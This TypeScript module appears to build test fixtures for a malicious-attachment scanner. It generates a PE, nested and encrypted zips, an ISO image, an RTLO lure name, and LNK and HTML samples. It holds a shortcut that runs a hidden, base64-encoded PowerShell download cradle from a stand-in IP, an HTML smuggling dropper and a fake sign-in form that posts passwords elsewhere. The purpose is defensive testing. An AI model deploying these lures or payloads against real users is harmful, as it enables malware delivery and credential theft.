// Weaponized-attachment fixtures built in code, so that no binary sample is ever committed: a
// minimal PE, zips (plain, encrypted, nested), an ISO 9660 image, a LNK that runs PowerShell and
// an HTML smuggling page. Each is the smallest thing that is still a valid instance of its format.
import { Uint8ArrayReader, Uint8ArrayWriter, ZipWriter } from '@zip.js/zip.js';

const encoder = new TextEncoder();

/** `name` as an RTLO lure: shows as `invoice_exe.pdf`, runs as `invoice_fdp.exe`. */
export const RTLO_NAME = 'invoice_\u202Efdp.exe';

/**
 * A PE32 image: DOS header, stub, PE signature, COFF and optional header, one section. Beyond 512
 * bytes the rest is pseudo-random "code" so that it does not compress away.
 */
export function minimalPe(size = 512): Uint8Array {
  const pe = new Uint8Array(Math.max(512, size));
  let seed = 0x2545f491;
  for (let i = 512; i < pe.length; i++) {
    seed = (seed * 1103515245 + 12345) >>> 0;
    pe[i] = seed >>> 24;
  }
  const view = new DataView(pe.buffer);
  pe.set(encoder.encode('MZ'), 0);
  view.setUint32(0x3c, 0x80, true);
  pe.set(encoder.encode('This program cannot be run in DOS mode.\r\n$'), 0x4e);
  pe.set(encoder.encode('PE\0\0'), 0x80);
  view.setUint16(0x84, 0x014c, true); // i386
  view.setUint16(0x86, 1, true); // one section
  view.setUint32(0x88, 0x5f000000, true);
  view.setUint16(0x94, 0xe0, true); // size of optional header
  view.setUint16(0x96, 0x0102, true); // executable, 32-bit
  view.setUint16(0x98, 0x010b, true); // PE32 magic
  view.setUint32(0x98 + 16, 0x1000, true); // entry point
  view.setUint32(0x98 + 28, 0x400000, true); // image base
  view.setUint32(0x98 + 32, 0x1000, true); // section alignment
  view.setUint32(0x98 + 36, 0x200, true); // file alignment
  view.setUint16(0x98 + 68, 2, true); // GUI subsystem
  pe.set(encoder.encode('.text\0\0\0'), 0x98 + 0xe0);
  return pe;
}

export interface FixtureFile {
  name: string;
  bytes: Uint8Array;
}

export interface ZipFixtureOptions {
  password?: string;
  /** Legacy ZipCrypto instead of AES-256 (what Windows' own tools and most lures use). */
  zipCrypto?: boolean;
}

/** A zip of `files`, encrypted when a password is given. */
export async function buildZip(
  files: readonly FixtureFile[],
  options: ZipFixtureOptions = {},
): Promise<Uint8Array> {
  const writer = new ZipWriter(new Uint8ArrayWriter(), {
    useWebWorkers: false,
    ...(options.password === undefined
      ? {}
      : { password: options.password, zipCrypto: options.zipCrypto === true }),
  });
  for (const file of files) await writer.add(file.name, new Uint8ArrayReader(file.bytes));
  return writer.close();
}

/** `outer.zip` holding `inner.zip` holding `payload.exe` (a PE). */
export async function nestedZip(): Promise<Uint8Array> {
  const inner = await buildZip([{ name: 'payload.exe', bytes: minimalPe() }]);
  return buildZip([{ name: 'inner.zip', bytes: inner }]);
}

// ISO 9660 ---------------------------------------------------------------------------------------

const SECTOR = 2048;

interface IsoDir {
  name: string;
  dirs: IsoDir[];
  files: { name: string; bytes: Uint8Array; lba: number }[];
  lba: number;
  size: number;
  jolietLba: number;
  jolietSize: number;
  parent?: IsoDir;
}

/**
 * An ISO 9660 image holding `files` (paths with `/` make directories), with a Joliet tree
 * carrying the same files under their long names when `joliet` is set.
 */
export function buildIso(
  files: readonly FixtureFile[],
  options: { joliet?: boolean } = {},
): Uint8Array {
  const joliet = options.joliet === true;
  const root = newDir('');
  for (const file of files) {
    const parts = file.name.split('/');
    let dir = root;
    for (const part of parts.slice(0, -1)) {
      let next = dir.dirs.find((candidate) => candidate.name === part);
      if (next === undefined) {
        next = newDir(part);
        next.parent = dir;
        dir.dirs.push(next);
      }
      dir = next;
    }
    dir.files.push({ name: parts[parts.length - 1] ?? '', bytes: file.bytes, lba: 0 });
  }
  const all = flatten(root);
  // Sectors: 16 system area, PVD, [Joliet SVD], terminator, two path tables, directories, files.
  let lba = 16 + 1 + (joliet ? 1 : 0) + 1;
  const pathTableL = lba++;
  const pathTableM = lba++;
  for (const dir of all) {
    dir.size = directorySize(dir, false);
    dir.lba = lba;
    lba += dir.size / SECTOR;
  }
  if (joliet) {
    for (const dir of all) {
      dir.jolietSize = directorySize(dir, true);
      dir.jolietLba = lba;
      lba += dir.jolietSize / SECTOR;
    }
  }
  for (const dir of all) {
    for (const file of dir.files) {
      file.lba = lba;
      lba += Math.max(1, Math.ceil(file.bytes.length / SECTOR));
    }
  }
  const pathTable = buildPathTable(all, false, false);
  const image = new Uint8Array(lba * SECTOR);
  image.set(
    volumeDescriptor(1, root, lba, pathTable.length, pathTableL, pathTableM, false),
    16 * SECTOR,
  );
  if (joliet) {
    const jolietTable = buildPathTable(all, true, false);
    image.set(
      volumeDescriptor(2, root, lba, jolietTable.length, pathTableL, pathTableM, true),
      17 * SECTOR,
    );
  }
  const terminator = new Uint8Array(SECTOR);
  terminator.set([255, ...encoder.encode('CD001'), 1]);
  image.set(terminator, (joliet ? 18 : 17) * SECTOR);
  // Joliet path tables are omitted: readers (ours included) walk the directory records.
  image.set(pathTable, pathTableL * SECTOR);
  image.set(buildPathTable(all, false, true), pathTableM * SECTOR);
  for (const dir of all) {
    image.set(directoryExtent(dir, false), dir.lba * SECTOR);
    if (joliet) image.set(directoryExtent(dir, true), dir.jolietLba * SECTOR);
    for (const file of dir.files) image.set(file.bytes, file.lba * SECTOR);
  }
  return image;
}

function newDir(name: string): IsoDir {
  return { name, dirs: [], files: [], lba: 0, size: 0, jolietLba: 0, jolietSize: 0 };
}

function flatten(root: IsoDir): IsoDir[] {
  const out: IsoDir[] = [];
  const queue = [root];
  for (let dir = queue.shift(); dir !== undefined; dir = queue.shift()) {
    out.push(dir);
    queue.push(...dir.dirs);
  }
  return out;
}

function isoName(name: string, joliet: boolean, file: boolean): Uint8Array {
  const full = file ? `${name};1` : name;
  if (!joliet) return encoder.encode(full.toUpperCase());
  const out = new Uint8Array(full.length * 2);
  for (let i = 0; i < full.length; i++) {
    out[i * 2] = full.charCodeAt(i) >> 8;
    out[i * 2 + 1] = full.charCodeAt(i) & 0xff;
  }
  return out;
}

function record(name: Uint8Array, lba: number, size: number, directory: boolean): Uint8Array {
  const length = 33 + name.length + (name.length % 2 === 0 ? 1 : 0);
  const out = new Uint8Array(length);
  const view = new DataView(out.buffer);
  out[0] = length;
  view.setUint32(2, lba, true);
  view.setUint32(6, lba, false);
  view.setUint32(10, size, true);
  view.setUint32(14, size, false);
  out.set([126, 11, 23, 9, 30, 0, 36], 18); // 2026-11-23 09:30:00 +09:00
  out[25] = directory ? 2 : 0;
  view.setUint16(28, 1, true);
  view.setUint16(30, 1, false);
  out[32] = name.length;
  out.set(name, 33);
  return out;
}

function records(dir: IsoDir, joliet: boolean): Uint8Array[] {
  const self = joliet ? [dir.jolietLba, dir.jolietSize] : [dir.lba, dir.size];
  const parent = dir.parent ?? dir;
  const up = joliet ? [parent.jolietLba, parent.jolietSize] : [parent.lba, parent.size];
  return [
    record(Uint8Array.of(0), self[0] ?? 0, self[1] ?? 0, true),
    record(Uint8Array.of(1), up[0] ?? 0, up[1] ?? 0, true),
    ...dir.dirs.map((sub) =>
      record(
        isoName(sub.name, joliet, false),
        joliet ? sub.jolietLba : sub.lba,
        joliet ? sub.jolietSize : sub.size,
        true,
      ),
    ),
    ...dir.files.map((file) =>
      record(isoName(file.name, joliet, true), file.lba, file.bytes.length, false),
    ),
  ];
}

function directorySize(dir: IsoDir, joliet: boolean): number {
  // Sizes are not known yet but do not change a record's length.
  let sectors = 1;
  let used = 0;
  for (const item of records(dir, joliet)) {
    if (used + item.length > SECTOR) {
      sectors++;
      used = 0;
    }
    used += item.length;
  }
  return sectors * SECTOR;
}

function directoryExtent(dir: IsoDir, joliet: boolean): Uint8Array {
  const out = new Uint8Array(joliet ? dir.jolietSize : dir.size);
  let offset = 0;
  for (const item of records(dir, joliet)) {
    // A record never crosses a sector boundary: the rest of the sector stays zero.
    if ((offset % SECTOR) + item.length > SECTOR) offset = Math.ceil(offset / SECTOR) * SECTOR;
    out.set(item, offset);
    offset += item.length;
  }
  return out;
}

function buildPathTable(all: readonly IsoDir[], joliet: boolean, bigEndian: boolean): Uint8Array {
  const parts: Uint8Array[] = [];
  for (const dir of all) {
    const name = dir.name === '' ? Uint8Array.of(0) : isoName(dir.name, joliet, false);
    const out = new Uint8Array(8 + name.length + (name.length % 2));
    const view = new DataView(out.buffer);
    out[0] = name.length;
    view.setUint32(2, joliet ? dir.jolietLba : dir.lba, !bigEndian);
    view.setUint16(6, dir.parent === undefined ? 1 : all.indexOf(dir.parent) + 1, !bigEndian);
    out.set(name, 8);
    parts.push(out);
  }
  return concat(parts);
}

function volumeDescriptor(
  type: 1 | 2,
  root: IsoDir,
  sectors: number,
  pathTableSize: number,
  pathTableL: number,
  pathTableM: number,
  joliet: boolean,
): Uint8Array {
  const out = new Uint8Array(SECTOR);
  const view = new DataView(out.buffer);
  out[0] = type;
  out.set(encoder.encode('CD001'), 1);
  out[6] = 1;
  out.fill(0x20, 8, 72);
  out.set(encoder.encode('INVOICE_2026'), 40);
  view.setUint32(80, sectors, true);
  view.setUint32(84, sectors, false);
  if (joliet) out.set(encoder.encode('%/E'), 88);
  view.setUint16(120, 1, true);
  view.setUint16(122, 1, false);
  view.setUint16(124, 1, true);
  view.setUint16(126, 1, false);
  view.setUint16(128, SECTOR, true);
  view.setUint16(130, SECTOR, false);
  view.setUint32(132, pathTableSize, true);
  view.setUint32(136, pathTableSize, false);
  view.setUint32(140, pathTableL, true);
  view.setUint32(148, pathTableM, false);
  const rootRecord = record(
    Uint8Array.of(0),
    joliet ? root.jolietLba : root.lba,
    joliet ? root.jolietSize : root.size,
    true,
  );
  out.set(rootRecord, 156);
  out.fill(0x20, 190, 813);
  out.fill(0x30, 813, 813 + 4 * 17);
  out[881] = 1;
  return out;
}

// LNK (MS-SHLLINK) -------------------------------------------------------------------------------

export interface LnkFixture {
  /** LinkInfo local base path, e.g. `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`. */
  target: string;
  arguments?: string;
  workingDir?: string;
  iconLocation?: string;
  name?: string;
  /** StringData in UTF-16 (the default, as Explorer writes it) or in the ANSI code page. */
  unicode?: boolean;
}

/** A shell link with a LinkInfo local base path and the given StringData. */
export function buildLnk(fixture: LnkFixture): Uint8Array {
  const unicode = fixture.unicode !== false;
  let flags = 0x02; // HasLinkInfo
  if (fixture.name !== undefined) flags |= 0x04;
  if (fixture.workingDir !== undefined) flags |= 0x10;
  if (fixture.arguments !== undefined) flags |= 0x20;
  if (fixture.iconLocation !== undefined) flags |= 0x40;
  if (unicode) flags |= 0x80;
  const header = new Uint8Array(0x4c);
  const view = new DataView(header.buffer);
  view.setUint32(0, 0x4c, true);
  header.set([0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46], 4);
  view.setUint32(0x14, flags, true);
  view.setUint32(0x18, 0x20, true); // FILE_ATTRIBUTE_ARCHIVE
  view.setUint32(0x3c, 7, true); // SW_SHOWMINNOACTIVE: the window never shows
  const strings = [
    fixture.name,
    undefined,
    fixture.workingDir,
    fixture.arguments,
    fixture.iconLocation,
  ]
    .filter((value): value is string => value !== undefined)
    .map((value) => stringData(value, unicode));
  return concat([header, linkInfo(fixture.target), ...strings, new Uint8Array(4)]);
}

function linkInfo(target: string): Uint8Array {
  const volume = new Uint8Array(0x11);
  const volumeView = new DataView(volume.buffer);
  volumeView.setUint32(0, volume.length, true);
  volumeView.setUint32(4, 3, true); // DRIVE_FIXED
  volumeView.setUint32(8, 0x1234abcd, true);
  volumeView.setUint32(12, 0x10, true);
  const base = encoder.encode(`${target}\0`);
  const headerSize = 0x1c;
  const size = headerSize + volume.length + base.length + 1;
  const out = new Uint8Array(size);
  const view = new DataView(out.buffer);
  view.setUint32(0, size, true);
  view.setUint32(4, headerSize, true);
  view.setUint32(8, 1, true); // VolumeIDAndLocalBasePath
  view.setUint32(12, headerSize, true);
  view.setUint32(16, headerSize + volume.length, true);
  view.setUint32(20, 0, true);
  view.setUint32(24, size - 1, true); // common path suffix: an empty string
  out.set(volume, headerSize);
  out.set(base, headerSize + volume.length);
  return out;
}

function stringData(value: string, unicode: boolean): Uint8Array {
  const out = new Uint8Array(2 + value.length * (unicode ? 2 : 1));
  new DataView(out.buffer).setUint16(0, value.length, true);
  if (unicode) out.set(new Uint8Array(Buffer.from(value, 'utf16le')), 2);
  else out.set(new Uint8Array(Buffer.from(value, 'latin1')), 2);
  return out;
}

/** `powershell -w hidden -enc <base64 of a download cradle>`. */
export function powershellLnk(): Uint8Array {
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')";
  return buildLnk({
    target: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    arguments: `-nop -w hidden -enc ${Buffer.from(script, 'utf16le').toString('base64')}`,
    iconLocation: '%ProgramFiles(x86)%\\Microsoft\\Edge\\Application\\msedge.exe',
    workingDir: 'C:\\Windows\\System32',
  });
}

// HTML smuggling ---------------------------------------------------------------------------------

/** A page that rebuilds `payload` from base64 in the browser and saves it as `fileName`. */
export function smugglingHtml(payload: Uint8Array, fileName: string): string {
  const base64 = Buffer.from(payload).toString('base64');
  return `<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Secure document</title></head>
<body><p>Your document is downloading...</p>
<script>
  var data = "${base64}";
  var raw = atob(data);
  var bytes = new Uint8Array(raw.length);
  for (var i = 0; i < raw.length; i++) bytes[i] = raw.charCodeAt(i);
  var blob = new Blob([bytes], { type: 'application/octet-stream' });
  if (window.navigator.msSaveOrOpenBlob) window.navigator.msSaveOrOpenBlob(blob, '${fileName}');
  else {
    var a = document.createElement('a');
    a.href = URL.createObjectURL(blob);
    a.download = '${fileName}';
    document.body.appendChild(a);
    a.click();
  }
</script></body></html>`;
}

/** A fake sign-in page posting the password to another site. */
export function credentialHtml(action: string): string {
  return `<!doctype html><html><body><h2>Sign in to view the shared invoice</h2>
<form method="post" action="${action}">
  <input type="email" name="login" value="victim@example.jp">
  <input type="password" name="passwd">
  <button type="submit">Sign in</button>
</form></body></html>`;
}

function concat(parts: readonly Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((sum, part) => sum + part.length, 0));
  let offset = 0;
  for (const part of parts) {
    out.set(part, offset);
    offset += part.length;
  }
  return out;
}
